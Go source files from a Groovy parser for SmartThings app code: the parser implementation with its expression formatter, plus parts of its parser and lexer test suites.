		t.Errorf("map = %s", Format(e))
	}
	e, err = ParseExpr(`[:]`)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(*MapLit); !ok {
		t.Errorf("empty map = %T", e)
	}
	e, err = ParseExpr(`[]`)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(*ListLit); !ok {
		t.Errorf("empty list = %T", e)
	}
}

func TestParseSwitch(t *testing.T) {
	src := `
def h(evt) {
    switch (evt.value) {
        case "open":
            theSwitch.on()
            break
        case "closed":
            theSwitch.off()
            break
        default:
            log.debug "other"
    }
}
`
	f := parseOK(t, "switch", src)
	sw, ok := f.Methods[0].Body.Stmts[0].(*SwitchStmt)
	if !ok {
		t.Fatalf("stmt is %T", f.Methods[0].Body.Stmts[0])
	}
	if len(sw.Cases) != 3 {
		t.Fatalf("cases = %d", len(sw.Cases))
	}
	if sw.Cases[2].Value != nil {
		t.Error("case 2 should be default")
	}
}

func TestParseWhileAndFor(t *testing.T) {
	src := `
def h() {
    while (x < 10) {
        x = x + 1
    }
    for (d in devices) {
        d.off()
    }
}
`
	f := parseOK(t, "loops", src)
	stmts := f.Methods[0].Body.Stmts
	if _, ok := stmts[0].(*WhileStmt); !ok {
		t.Errorf("stmt 0 = %T", stmts[0])
	}
	fr, ok := stmts[1].(*ForInStmt)
	if !ok {
		t.Fatalf("stmt 1 = %T", stmts[1])
	}
	if fr.Var != "d" {
		t.Errorf("loop var = %q", fr.Var)
	}
}

func TestParseIncDec(t *testing.T) {
	f := parseOK(t, "t", "def h() { state.n++ }")
	st, ok := f.Methods[0].Body.Stmts[0].(*IncDecStmt)
	if !ok {
		t.Fatalf("stmt = %T", f.Methods[0].Body.Stmts[0])
	}
	if st.Decr {
		t.Error("should be increment")
	}
}

func TestParseErrorsReported(t *testing.T) {
	_, err := Parse("bad", "def h() { if ( { }")
	if err == nil {
		t.Error("expected parse error")
	}
}

func TestParseErrorHasPosition(t *testing.T) {
	_, err := Parse("bad.groovy", "def h() { x = = }")
	if err == nil {
		t.Fatal("expected error")
	}
	if !strings.Contains(err.Error(), "bad.groovy") {
		t.Errorf("error should carry filename: %v", err)
	}
}

// Property: parsing never panics on arbitrary input.
func TestParseTotalOnArbitraryInput(t *testing.T) {
	f := func(s string) bool {
		_, _ = Parse("fuzz", s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Property: Format of a parsed simple binary expression re-parses to
// the same formatted form (idempotence of the printer through the
// parser).
func TestFormatParseIdempotent(t *testing.T) {
	exprs := []string{
		"a + b * c", "x == 1 && y < 2", "a ?: b", "p ? q : r",
		"dev.currentValue(\"power\")", "!(a || b)", "m[k]", "[1, 2]",
	}
	for _, src := range exprs {
		e1, err := ParseExpr(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		s1 := Format(e1)
		e2, err := ParseExpr(s1)
		if err != nil {
			t.Fatalf("reparse %q: %v", s1, err)
		}
		if s2 := Format(e2); s1 != s2 {
			t.Errorf("%q: %q != %q", src, s1, s2)
		}
	}
}

func TestWalkVisitsAllCalls(t *testing.T) {
	f := parseOK(t, "smoke-alarm", smokeAlarmSrc)
	calls := map[string]int{}
	WalkFile(f, func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Name != "" {
			calls[c.Name]++
		}
		return true
	})
	if calls["subscribe"] != 2 {
		t.Errorf("subscribe calls = %d, want 2", calls["subscribe"])
	}
	if calls["siren"] != 1 || calls["open"] != 1 || calls["close"] != 1 {
		t.Errorf("device action calls = %v", calls)
	}
	if calls["initialize"] != 2 { // from installed() and updated()
		t.Errorf("initialize calls = %d, want 2", calls["initialize"])
	}
}
