package groovy

import (
	"errors"
	"fmt"
	"strings"
)

// Parser builds the AST from a token stream. It is a recursive-descent
// parser with operator-precedence expression parsing. Groovy-specific
// behaviour it implements:
//
//   - command call syntax (`input "x", "capability.switch", title: "T"`),
//   - trailing closure arguments (`section("S") { ... }`),
//   - closure-only method calls (`events.count { it.value == "wet" }`),
//   - GString interpolation with nested expression parsing,
//   - reflection calls whose callee is a GString (`"$name"()`),
//   - newline-terminated statements, with newlines ignored inside
//     parentheses and brackets.
type Parser struct {
	toks   []Token
	pos    int
	errs   []error
	fileNm string
}

// ParseError describes a syntax error at a source position.
type ParseError struct {
	File string
	Pos  Pos
	Msg  string
}

func (e *ParseError) Error() string {
	if e.File != "" {
		return fmt.Sprintf("%s:%s: %s", e.File, e.Pos, e.Msg)
	}
	return fmt.Sprintf("%s: %s", e.Pos, e.Msg)
}

// Parse parses a complete SmartThings app source file. name is used in
// error messages and as File.Name. On syntax errors a best-effort AST
// is returned together with a joined error.
func Parse(name, src string) (*File, error) {
	lx := NewLexer(src)
	toks := lx.Tokens()
	p := &Parser{toks: toks, fileNm: name}
	f := p.parseFile()
	f.Name = name
	var errs []error
	errs = append(errs, lx.Errors()...)
	errs = append(errs, p.errs...)
	if len(errs) > 0 {
		return f, errors.Join(errs...)
	}
	return f, nil
}

// MustParse is Parse but panics on error; intended for embedding known-
// good corpus sources and for tests.
func MustParse(name, src string) *File {
	f, err := Parse(name, src)
	if err != nil {
		panic(fmt.Sprintf("groovy.MustParse(%s): %v", name, err))
	}
	return f
}

// ParseExpr parses a single expression (used for GString interpolation
// parts and for tests).
func ParseExpr(src string) (Expr, error) {
	lx := NewLexer(src)
	p := &Parser{toks: lx.Tokens()}
	e := p.parseExpr()
	if len(lx.Errors()) > 0 {
		return e, errors.Join(lx.Errors()...)
	}
	if len(p.errs) > 0 {
		return e, errors.Join(p.errs...)
	}
	return e, nil
}

func (p *Parser) errorf(pos Pos, format string, args ...any) {
	if len(p.errs) < 50 {
		p.errs = append(p.errs, &ParseError{File: p.fileNm, Pos: pos, Msg: fmt.Sprintf(format, args...)})
	}
}

func (p *Parser) cur() Token    { return p.toks[p.pos] }
func (p *Parser) kind() TokKind { return p.toks[p.pos].Kind }

func (p *Parser) peekKind(n int) TokKind {
	if p.pos+n >= len(p.toks) {
		return EOF
	}
	return p.toks[p.pos+n].Kind
}

func (p *Parser) advance() Token {
	t := p.toks[p.pos]
	if t.Kind != EOF {
		p.pos++
	}
	return t
}

func (p *Parser) at(k TokKind) bool { return p.kind() == k }

func (p *Parser) accept(k TokKind) bool {
	if p.at(k) {
		p.advance()
		return true
	}
	return false
}

func (p *Parser) expect(k TokKind) Token {
	if p.at(k) {
		return p.advance()
	}
	p.errorf(p.cur().Pos, "expected %s, found %s", k, p.cur())
	return Token{Kind: k, Pos: p.cur().Pos}
}

func (p *Parser) skipNLs() {
	for p.at(NL) {
		p.advance()
	}
}

// sync skips tokens to the next statement boundary after an error.
func (p *Parser) sync() {
	for !p.at(EOF) && !p.at(NL) && !p.at(RBRACE) {
		p.advance()
	}
	p.accept(NL)
}

// ---------------------------------------------------------------------------
// File and declarations

func (p *Parser) parseFile() *File {
	f := &File{}
	for {
		p.skipNLs()
		if p.at(EOF) {
			return f
		}
		if p.atMethodDecl() {
			f.Methods = append(f.Methods, p.parseMethodDecl())
			continue
		}
		before := p.pos
		st := p.parseStmt()
		if st != nil {
			f.Stmts = append(f.Stmts, st)
		}
		if p.pos == before {
			// Defensive: never loop without progress.
			p.advance()
		}
	}
}

// atMethodDecl reports whether the upcoming tokens start a method
// declaration: [private|public] def name ( ... or `private name(` form.
func (p *Parser) atMethodDecl() bool {
	i := 0
	if p.peekKind(i) == KwPrivate || p.peekKind(i) == KwPublic {
		i++
	}
	if p.peekKind(i) == KwDef {
		i++
		// `def name(` — but not `def x = ...`
		return p.peekKind(i) == IDENT && p.peekKind(i+1) == LPAREN && p.isMethodHeader(i)
	}
	// `private initialize() {`
	if i > 0 && p.peekKind(i) == IDENT && p.peekKind(i+1) == LPAREN {
		return p.isMethodHeader(i)
	}
	return false
}

// isMethodHeader distinguishes `def name(params) {` from a call
// statement such as `def x = foo(1)` by scanning for a `{` after the
// closing paren of the parameter list (newlines allowed between).
func (p *Parser) isMethodHeader(identOff int) bool {
	i := identOff + 1 // at LPAREN
	depth := 0
	for {
		k := p.peekKind(i)
		switch k {
		case LPAREN:
			depth++
		case RPAREN:
			depth--
			if depth == 0 {
				j := i + 1
				for p.peekKind(j) == NL {
					j++
				}
				return p.peekKind(j) == LBRACE
			}
		case EOF, LBRACE, RBRACE:
			return false
		}
		i++
	}
}

func (p *Parser) parseMethodDecl() *MethodDecl {
	start := p.cur().Pos
	private := false
	if p.at(KwPrivate) {
		private = true
		p.advance()
	} else if p.at(KwPublic) {
		p.advance()
	}
	p.accept(KwDef)
	name := p.expect(IDENT).Text
	p.expect(LPAREN)
	var params []string
	p.skipNLs()
	for !p.at(RPAREN) && !p.at(EOF) {
		// Parameters may be typed (`String msg`) — keep the last ident.
		pn := p.expect(IDENT).Text
		if p.at(IDENT) {
			pn = p.advance().Text
		}
		params = append(params, pn)
		if !p.accept(COMMA) {
			break
		}
		p.skipNLs()
	}
	p.expect(RPAREN)
	p.skipNLs()
	body := p.parseBlock()
	return &MethodDecl{Name: name, Params: params, Body: body, Private: private, Pos: start}
}

func (p *Parser) parseBlock() *Block {
	b := &Block{Pos: p.cur().Pos}
	p.expect(LBRACE)
	for {
		p.skipNLs()
		if p.at(RBRACE) || p.at(EOF) {
			break
		}
		before := p.pos
		st := p.parseStmt()
		if st != nil {
			b.Stmts = append(b.Stmts, st)
		}
		if p.pos == before {
			p.advance()
		}
	}
	p.expect(RBRACE)
	return b
}

// ---------------------------------------------------------------------------
// Statements

func (p *Parser) parseStmt() Stmt {
	switch p.kind() {
	case KwIf:
		return p.parseIf()
	case KwWhile:
		return p.parseWhile()
	case KwFor:
		return p.parseFor()
	case KwSwitch:
		return p.parseSwitch()
	case KwReturn:
		pos := p.advance().Pos
		var x Expr
		if !p.at(NL) && !p.at(RBRACE) && !p.at(EOF) {
			x = p.parseExpr()
		}
		p.endStmt()
		return &ReturnStmt{X: x, Pos: pos}
	case KwBreak:
		pos := p.advance().Pos
		p.endStmt()
		return &BreakStmt{Pos: pos}
	case KwContinue:
		pos := p.advance().Pos
		p.endStmt()
		return &ContinueStmt{Pos: pos}
	case KwDef:
		return p.parseDecl()
	case LBRACE:
		return p.parseBlock()
	case IDENT:
		// Typed local declaration: `String theMessage [= e]`.
		if p.peekKind(1) == IDENT && (p.peekKind(2) == ASSIGN || p.peekKind(2) == NL ||
			p.peekKind(2) == RBRACE || p.peekKind(2) == EOF) && isTypeName(p.cur().Text) {
			typ := p.advance().Text
			name := p.advance().Text
			var init Expr
			if p.accept(ASSIGN) {
				init = p.parseExpr()
			}
			p.endStmt()
			return &DeclStmt{Name: name, Type: typ, Init: init, Pos: p.cur().Pos}
		}
	}
	return p.parseSimpleStmt()
}

// isTypeName reports whether an identifier looks like a Groovy/Java
// type in declaration position (capitalised, e.g. String, Date, Integer).
func isTypeName(s string) bool {
	return s != "" && s[0] >= 'A' && s[0] <= 'Z'
}

func (p *Parser) parseDecl() Stmt {
	pos := p.expect(KwDef).Pos
	// Optional type between def and name: `def String theMessage`.
	name := p.expect(IDENT).Text
	typ := ""
	if p.at(IDENT) && isTypeName(name) {
		typ = name
		name = p.advance().Text
	}
	var init Expr
	if p.accept(ASSIGN) {
		p.skipNLs()
		init = p.parseExpr()
	}
	p.endStmt()
	return &DeclStmt{Name: name, Type: typ, Init: init, Pos: pos}
}

func (p *Parser) parseIf() Stmt {
	pos := p.expect(KwIf).Pos
	p.expect(LPAREN)
	p.skipNLs()
	cond := p.parseExpr()
	p.skipNLs()
	p.expect(RPAREN)
	p.skipNLs()
	thenB := p.blockOrSingle()
	var elseS Stmt
	// `else` may appear after a newline.
	save := p.pos
	p.skipNLs()
	if p.at(KwElse) {
		p.advance()
		p.skipNLs()
		if p.at(KwIf) {
			elseS = p.parseIf()
		} else {
			elseS = p.blockOrSingle()
		}
	} else {
		p.pos = save
	}
	return &IfStmt{Cond: cond, Then: thenB, Else: elseS, Pos: pos}
}

// blockOrSingle parses a braced block, or wraps a single statement in a
// Block (Groovy permits brace-less bodies).
func (p *Parser) blockOrSingle() *Block {
	if p.at(LBRACE) {
		return p.parseBlock()
	}
	pos := p.cur().Pos
	st := p.parseStmt()
	b := &Block{Pos: pos}
	if st != nil {
		b.Stmts = []Stmt{st}
	}
	return b
}

func (p *Parser) parseWhile() Stmt {
	pos := p.expect(KwWhile).Pos
	p.expect(LPAREN)
	p.skipNLs()
	cond := p.parseExpr()
	p.skipNLs()
	p.expect(RPAREN)
	p.skipNLs()
	body := p.blockOrSingle()
	return &WhileStmt{Cond: cond, Body: body, Pos: pos}
}

func (p *Parser) parseFor() Stmt {
	pos := p.expect(KwFor).Pos
	p.expect(LPAREN)
	p.skipNLs()
	p.accept(KwDef)
	v := p.expect(IDENT).Text
	if p.at(IDENT) { // typed loop var
		v = p.advance().Text
	}
	p.expect(KwIn)
	iter := p.parseExpr()
	p.skipNLs()
	p.expect(RPAREN)
	p.skipNLs()
	body := p.blockOrSingle()
	return &ForInStmt{Var: v, Iter: iter, Body: body, Pos: pos}
}

func (p *Parser) parseSwitch() Stmt {
	pos := p.expect(KwSwitch).Pos
	p.expect(LPAREN)
	p.skipNLs()
	tag := p.parseExpr()
	p.skipNLs()
	p.expect(RPAREN)
	p.skipNLs()
	p.expect(LBRACE)
	var cases []SwitchCase
	for {
		p.skipNLs()
		if p.at(RBRACE) || p.at(EOF) {
			break
		}
		cpos := p.cur().Pos
		var val Expr
		if p.accept(KwCase) {
			val = p.parseExpr()
		} else if !p.accept(KwDefault) {
			p.errorf(p.cur().Pos, "expected 'case' or 'default' in switch")
			p.sync()
			continue
		}
		p.expect(COLON)
		var body []Stmt
		for {
			p.skipNLs()
			if p.at(KwCase) || p.at(KwDefault) || p.at(RBRACE) || p.at(EOF) {
				break
			}
			before := p.pos
			st := p.parseStmt()
			if st != nil {
				body = append(body, st)
			}
			if p.pos == before {
				p.advance()
			}
		}
		cases = append(cases, SwitchCase{Value: val, Body: body, Pos: cpos})
	}
	p.expect(RBRACE)
	return &SwitchStmt{Tag: tag, Cases: cases, Pos: pos}
}

// endStmt consumes a statement terminator (newline, or the position
// immediately before a closing brace / EOF / else).
func (p *Parser) endStmt() {
	if p.at(NL) {
		p.advance()
		return
	}
	if p.at(RBRACE) || p.at(EOF) || p.at(KwElse) {
		return
	}
	p.errorf(p.cur().Pos, "expected end of statement, found %s", p.cur())
	p.sync()
}

// parseSimpleStmt parses expression statements, assignments, inc/dec,
// and Groovy command calls.
func (p *Parser) parseSimpleStmt() Stmt {
	pos := p.cur().Pos
	x := p.parseExpr()
	switch p.kind() {
	case ASSIGN, PLUSASSIGN, MINUSASSIGN:
		op := p.advance().Kind
		p.skipNLs()
		rhs := p.parseExpr()
		p.endStmt()
		return &AssignStmt{LHS: x, Op: op, RHS: rhs, Pos: pos}
	case INCR, DECR:
		decr := p.advance().Kind == DECR
		p.endStmt()
		return &IncDecStmt{X: x, Decr: decr, Pos: pos}
	}
	// Labeled entry inside a builder closure (SmartThings mappings:
	// `action: [GET: "setHome"]`): parse as a one-entry map expression.
	if id, isIdent := x.(*Ident); isIdent && p.at(COLON) {
		p.advance()
		p.skipNLs()
		v := p.parseExpr()
		p.endStmt()
		m := &MapLit{Entries: []MapEntry{{Key: id.Name, Value: v}}, Pos: pos}
		return &ExprStmt{X: m, Pos: pos}
	}
	// Command call: a bare identifier (or property path) followed by the
	// start of an argument expression on the same line.
	if isCallableRef(x) && p.startsCommandArg() {
		call := p.parseCommandCall(x, pos)
		p.endStmt()
		return &ExprStmt{X: call, Pos: pos}
	}
	// Closure-only command call in statement position:
	// `preferences { ... }`.
	if isCallableRef(x) && p.at(LBRACE) {
		call := &CallExpr{Command: true, Pos: pos}
		switch c := x.(type) {
		case *Ident:
			call.Name = c.Name
		case *PropExpr:
			call.Recv = c.Recv
			call.Name = c.Name
		}
		call.Closure = p.parseClosure()
		p.endStmt()
		return &ExprStmt{X: call, Pos: pos}
	}
	p.endStmt()
	return &ExprStmt{X: x, Pos: pos}
}

func isCallableRef(x Expr) bool {
	switch x.(type) {
	case *Ident, *PropExpr:
		return true
	}
	return false
}

// startsCommandArg reports whether the current token can begin the
// first argument of a parenthesis-free command call.
func (p *Parser) startsCommandArg() bool {
	switch p.kind() {
	case STRING, GSTRING, NUMBER, IDENT, LBRACKET, KwTrue, KwFalse, KwNull, KwNew:
		return true
	case MINUS:
		return p.peekKind(1) == NUMBER
	}
	return false
}

func (p *Parser) parseCommandCall(callee Expr, pos Pos) Expr {
	call := &CallExpr{Command: true, Pos: pos}
	switch c := callee.(type) {
	case *Ident:
		call.Name = c.Name
	case *PropExpr:
		call.Recv = c.Recv
		call.Name = c.Name
	}
	for {
		p.parseArgInto(call)
		if !p.accept(COMMA) {
			break
		}
		p.skipNLs()
	}
	// Trailing closure: `timeout 5, { ... }` handled by parseArgInto;
	// a closure directly after the last arg is also accepted.
	if p.at(LBRACE) && call.Closure == nil {
		call.Closure = p.parseClosure()
	}
	return call
}

// parseArgInto parses one argument (named or positional) into call.
func (p *Parser) parseArgInto(call *CallExpr) {
	if (p.at(IDENT) || p.at(STRING)) && p.peekKind(1) == COLON {
		key := p.advance().Text
		p.expect(COLON)
		p.skipNLs()
		v := p.parseExpr()
		call.NamedArgs = append(call.NamedArgs, MapEntry{Key: key, Value: v})
		return
	}
	if p.at(LBRACE) {
		call.Closure = p.parseClosure()
		return
	}
	call.Args = append(call.Args, p.parseExpr())
}

// ---------------------------------------------------------------------------
// Expressions (precedence climbing)

func (p *Parser) parseExpr() Expr { return p.parseTernary() }

func (p *Parser) parseTernary() Expr {
	cond := p.parseOr()
	switch p.kind() {
	case QUESTION:
		pos := p.advance().Pos
		p.skipNLs()
		thenE := p.parseTernary()
		p.skipNLs()
		p.expect(COLON)
		p.skipNLs()
		elseE := p.parseTernary()
		return &TernaryExpr{Cond: cond, Then: thenE, Else: elseE, Pos: pos}
	case ELVIS:
		pos := p.advance().Pos
		p.skipNLs()
		def := p.parseTernary()
		return &ElvisExpr{Value: cond, Default: def, Pos: pos}
	}
	return cond
}

func (p *Parser) parseOr() Expr {
	x := p.parseAnd()
	for p.at(OROR) {
		pos := p.advance().Pos
		p.skipNLs()
		y := p.parseAnd()
		x = &BinaryExpr{Op: OROR, L: x, R: y, Pos: pos}
	}
	return x
}

func (p *Parser) parseAnd() Expr {
	x := p.parseEquality()
	for p.at(ANDAND) {
		pos := p.advance().Pos
		p.skipNLs()
		y := p.parseEquality()
		x = &BinaryExpr{Op: ANDAND, L: x, R: y, Pos: pos}
	}
	return x
}

func (p *Parser) parseEquality() Expr {
	x := p.parseRelational()
	for p.at(EQ) || p.at(NEQ) {
		op := p.advance()
		p.skipNLs()
		y := p.parseRelational()
		x = &BinaryExpr{Op: op.Kind, L: x, R: y, Pos: op.Pos}
	}
	return x
}

func (p *Parser) parseRelational() Expr {
	x := p.parseAdditive()
	for p.at(LT) || p.at(GT) || p.at(LEQ) || p.at(GEQ) {
		op := p.advance()
		p.skipNLs()
		y := p.parseAdditive()
		x = &BinaryExpr{Op: op.Kind, L: x, R: y, Pos: op.Pos}
	}
	return x
}

func (p *Parser) parseAdditive() Expr {
	x := p.parseMultiplicative()
	for p.at(PLUS) || p.at(MINUS) {
		op := p.advance()
		p.skipNLs()
		y := p.parseMultiplicative()
		x = &BinaryExpr{Op: op.Kind, L: x, R: y, Pos: op.Pos}
	}
	return x
}

func (p *Parser) parseMultiplicative() Expr {
	x := p.parseUnary()
	for p.at(STAR) || p.at(SLASH) || p.at(PERCENT) {
		op := p.advance()
		p.skipNLs()
		y := p.parseUnary()
		x = &BinaryExpr{Op: op.Kind, L: x, R: y, Pos: op.Pos}
	}
	return x
}

func (p *Parser) parseUnary() Expr {
	switch p.kind() {
	case NOT, MINUS:
		op := p.advance()
		x := p.parseUnary()
		return &UnaryExpr{Op: op.Kind, X: x, Pos: op.Pos}
	}
	return p.parsePostfix()
}

func (p *Parser) parsePostfix() Expr {
	x := p.parsePrimary()
	for {
		switch p.kind() {
		case DOT, SAFEDOT:
			safe := p.kind() == SAFEDOT
			pos := p.advance().Pos
			p.skipNLs()
			name := p.expect(IDENT).Text
			if p.at(LPAREN) {
				call := &CallExpr{Recv: x, Name: name, Safe: safe, Pos: pos}
				p.parseParenArgs(call)
				p.maybeTrailingClosure(call)
				x = call
			} else if p.at(LBRACE) {
				// Closure-only call: recv.count { ... }
				call := &CallExpr{Recv: x, Name: name, Safe: safe, Pos: pos}
				call.Closure = p.parseClosure()
				x = call
			} else {
				x = &PropExpr{Recv: x, Name: name, Safe: safe, Pos: pos}
			}
		case LBRACKET:
			pos := p.advance().Pos
			p.skipNLs()
			idx := p.parseExpr()
			p.skipNLs()
			p.expect(RBRACKET)
			x = &IndexExpr{Recv: x, Index: idx, Pos: pos}
		case LPAREN:
			switch c := x.(type) {
			case *Ident:
				call := &CallExpr{Name: c.Name, Pos: c.Pos}
				p.parseParenArgs(call)
				p.maybeTrailingClosure(call)
				x = call
			case *GStringLit:
				// Call by reflection: "$name"(args)
				call := &CallExpr{Dynamic: c, Pos: c.Pos}
				p.parseParenArgs(call)
				p.maybeTrailingClosure(call)
				x = call
			default:
				return x
			}
		default:
			return x
		}
	}
}

// maybeTrailingClosure attaches `{ ... }` immediately following a
// parenthesized call (no newline in between) as Groovy's trailing
// closure argument.
func (p *Parser) maybeTrailingClosure(call *CallExpr) {
	if p.at(LBRACE) && call.Closure == nil {
		call.Closure = p.parseClosure()
	}
}

func (p *Parser) parseParenArgs(call *CallExpr) {
	p.expect(LPAREN)
	p.skipNLs()
	if p.accept(RPAREN) {
		return
	}
	for {
		p.parseArgInto(call)
		p.skipNLs()
		if !p.accept(COMMA) {
			break
		}
		p.skipNLs()
	}
	p.expect(RPAREN)
}

func (p *Parser) parseClosure() *ClosureLit {
	pos := p.expect(LBRACE).Pos
	cl := &ClosureLit{Pos: pos}
	// Detect a parameter list: ident [, ident]* ->
	save := p.pos
	p.skipNLs()
	var params []string
	ok := false
	for p.at(IDENT) {
		params = append(params, p.advance().Text)
		if p.at(ARROW) {
			ok = true
			break
		}
		if !p.accept(COMMA) {
			break
		}
		p.skipNLs()
	}
	if ok {
		p.expect(ARROW)
		cl.Params = params
	} else {
		p.pos = save
	}
	body := &Block{Pos: pos}
	for {
		p.skipNLs()
		if p.at(RBRACE) || p.at(EOF) {
			break
		}
		before := p.pos
		st := p.parseStmt()
		if st != nil {
			body.Stmts = append(body.Stmts, st)
		}
		if p.pos == before {
			p.advance()
		}
	}
	p.expect(RBRACE)
	cl.Body = body
	return cl
}

func (p *Parser) parsePrimary() Expr {
	t := p.cur()
	switch t.Kind {
	case NUMBER:
		p.advance()
		return &NumberLit{Value: t.Num, IsInt: t.IsInt, Raw: t.Text, Pos: t.Pos}
	case STRING:
		p.advance()
		return &StringLit{Value: t.Text, Pos: t.Pos}
	case GSTRING:
		p.advance()
		return p.buildGString(t)
	case KwTrue:
		p.advance()
		return &BoolLit{Value: true, Pos: t.Pos}
	case KwFalse:
		p.advance()
		return &BoolLit{Value: false, Pos: t.Pos}
	case KwNull:
		p.advance()
		return &NullLit{Pos: t.Pos}
	case IDENT:
		p.advance()
		return &Ident{Name: t.Text, Pos: t.Pos}
	case KwNew:
		p.advance()
		typ := p.expect(IDENT).Text
		ne := &NewExpr{Type: typ, Pos: t.Pos}
		if p.at(LPAREN) {
			call := &CallExpr{}
			p.parseParenArgs(call)
			ne.Args = call.Args
		}
		return ne
	case LPAREN:
		p.advance()
		p.skipNLs()
		x := p.parseExpr()
		p.skipNLs()
		p.expect(RPAREN)
		return x
	case LBRACKET:
		return p.parseListOrMap()
	case LBRACE:
		return p.parseClosure()
	}
	p.errorf(t.Pos, "unexpected token %s in expression", t)
	p.advance()
	return &NullLit{Pos: t.Pos}
}

func (p *Parser) parseListOrMap() Expr {
	pos := p.expect(LBRACKET).Pos
	p.skipNLs()
	if p.accept(RBRACKET) {
		return &ListLit{Pos: pos}
	}
	if p.at(COLON) { // [:] — empty map
		p.advance()
		p.skipNLs()
		p.expect(RBRACKET)
		return &MapLit{Pos: pos}
	}
	// Map if first element is `key:`.
	if (p.at(IDENT) || p.at(STRING)) && p.peekKind(1) == COLON {
		m := &MapLit{Pos: pos}
		for {
			key := p.advance().Text
			p.expect(COLON)
			p.skipNLs()
			v := p.parseExpr()
			m.Entries = append(m.Entries, MapEntry{Key: key, Value: v})
			p.skipNLs()
			if !p.accept(COMMA) {
				break
			}
			p.skipNLs()
		}
		p.expect(RBRACKET)
		return m
	}
	l := &ListLit{Pos: pos}
	for {
		l.Elems = append(l.Elems, p.parseExpr())
		p.skipNLs()
		if !p.accept(COMMA) {
			break
		}
		p.skipNLs()
	}
	p.expect(RBRACKET)
	return l
}

// buildGString parses the interpolation expressions embedded in a
// GSTRING token into full AST expressions.
func (p *Parser) buildGString(t Token) *GStringLit {
	g := &GStringLit{Raw: t.Text, Pos: t.Pos}
	for _, part := range t.Parts {
		if !part.IsExpr {
			g.Parts = append(g.Parts, GStringPart{Text: part.Text})
			continue
		}
		e, err := ParseExpr(part.Expr)
		if err != nil {
			p.errorf(t.Pos, "bad interpolation %q: %v", part.Expr, err)
			e = &NullLit{Pos: t.Pos}
		}
		g.Parts = append(g.Parts, GStringPart{Expr: e, IsExpr: true})
	}
	return g
}

// Format returns a compact single-line rendering of an expression,
// used in diagnostics, transition labels, and tests.
func Format(e Expr) string {
	var sb strings.Builder
	formatExpr(&sb, e)
	return sb.String()
}

func formatExpr(sb *strings.Builder, e Expr) {
	switch x := e.(type) {
	case nil:
		sb.WriteString("<nil>")
	case *Ident:
		sb.WriteString(x.Name)
	case *NumberLit:
		sb.WriteString(x.Raw)
	case *StringLit:
		fmt.Fprintf(sb, "%q", x.Value)
	case *GStringLit:
		fmt.Fprintf(sb, "\"%s\"", x.Raw)
	case *BoolLit:
		fmt.Fprintf(sb, "%t", x.Value)
	case *NullLit:
		sb.WriteString("null")
	case *ListLit:
		sb.WriteString("[")
		for i, el := range x.Elems {
			if i > 0 {
				sb.WriteString(", ")
			}
			formatExpr(sb, el)
		}
		sb.WriteString("]")
	case *MapLit:
		sb.WriteString("[")
		for i, en := range x.Entries {
			if i > 0 {
				sb.WriteString(", ")
			}
			sb.WriteString(en.Key)
			sb.WriteString(": ")
			formatExpr(sb, en.Value)
		}
		sb.WriteString("]")
	case *PropExpr:
		formatExpr(sb, x.Recv)
		if x.Safe {
			sb.WriteString("?.")
		} else {
			sb.WriteString(".")
		}
		sb.WriteString(x.Name)
	case *IndexExpr:
		formatExpr(sb, x.Recv)
		sb.WriteString("[")
		formatExpr(sb, x.Index)
		sb.WriteString("]")
	case *CallExpr:
		if x.Recv != nil {
			formatExpr(sb, x.Recv)
			sb.WriteString(".")
		}
		if x.Dynamic != nil {
			formatExpr(sb, x.Dynamic)
		} else {
			sb.WriteString(x.Name)
		}
		sb.WriteString("(")
		n := 0
		for _, a := range x.Args {
			if n > 0 {
				sb.WriteString(", ")
			}
			formatExpr(sb, a)
			n++
		}
		for _, na := range x.NamedArgs {
			if n > 0 {
				sb.WriteString(", ")
			}
			sb.WriteString(na.Key)
			sb.WriteString(": ")
			formatExpr(sb, na.Value)
			n++
		}
		sb.WriteString(")")
		if x.Closure != nil {
			sb.WriteString(" {...}")
		}
	case *ClosureLit:
		sb.WriteString("{...}")
	case *BinaryExpr:
		sb.WriteString("(")
		formatExpr(sb, x.L)
		sb.WriteString(" " + opText(x.Op) + " ")
		formatExpr(sb, x.R)
		sb.WriteString(")")
	case *UnaryExpr:
		sb.WriteString(opText(x.Op))
		formatExpr(sb, x.X)
	case *TernaryExpr:
		sb.WriteString("(")
		formatExpr(sb, x.Cond)
		sb.WriteString(" ? ")
		formatExpr(sb, x.Then)
		sb.WriteString(" : ")
		formatExpr(sb, x.Else)
		sb.WriteString(")")
	case *ElvisExpr:
		sb.WriteString("(")
		formatExpr(sb, x.Value)
		sb.WriteString(" ?: ")
		formatExpr(sb, x.Default)
		sb.WriteString(")")
	case *NewExpr:
		sb.WriteString("new " + x.Type + "(")
		for i, a := range x.Args {
			if i > 0 {
				sb.WriteString(", ")
			}
			formatExpr(sb, a)
		}
		sb.WriteString(")")
	default:
		fmt.Fprintf(sb, "<%T>", e)
	}
}

func opText(k TokKind) string {
	switch k {
	case EQ:
		return "=="
	case NEQ:
		return "!="
	case LT:
		return "<"
	case GT:
		return ">"
	case LEQ:
		return "<="
	case GEQ:
		return ">="
	case ANDAND:
		return "&&"
	case OROR:
		return "||"
	case NOT:
		return "!"
	case PLUS:
		return "+"
	case MINUS:
		return "-"
	case STAR:
		return "*"
	case SLASH:
		return "/"
	case PERCENT:
		return "%"
	}
	return k.String()
}
