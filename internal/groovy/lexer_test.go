package groovy

import (
	"strings"
	"testing"
	"testing/quick"
)

func kinds(toks []Token) []TokKind {
	ks := make([]TokKind, len(toks))
	for i, t := range toks {
		ks[i] = t.Kind
	}
	return ks
}

func lexOK(t *testing.T, src string) []Token {
	t.Helper()
	lx := NewLexer(src)
	toks := lx.Tokens()
	if errs := lx.Errors(); len(errs) > 0 {
		t.Fatalf("lex errors for %q: %v", src, errs)
	}
	return toks
}

func TestLexSimpleTokens(t *testing.T) {
	toks := lexOK(t, "def x = 1 + 2")
	want := []TokKind{KwDef, IDENT, ASSIGN, NUMBER, PLUS, NUMBER, EOF}
	got := kinds(toks)
	if len(got) != len(want) {
		t.Fatalf("got %v want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("token %d: got %v want %v", i, got[i], want[i])
		}
	}
}

func TestLexOperators(t *testing.T) {
	cases := map[string]TokKind{
		"==": EQ, "!=": NEQ, "<=": LEQ, ">=": GEQ, "&&": ANDAND,
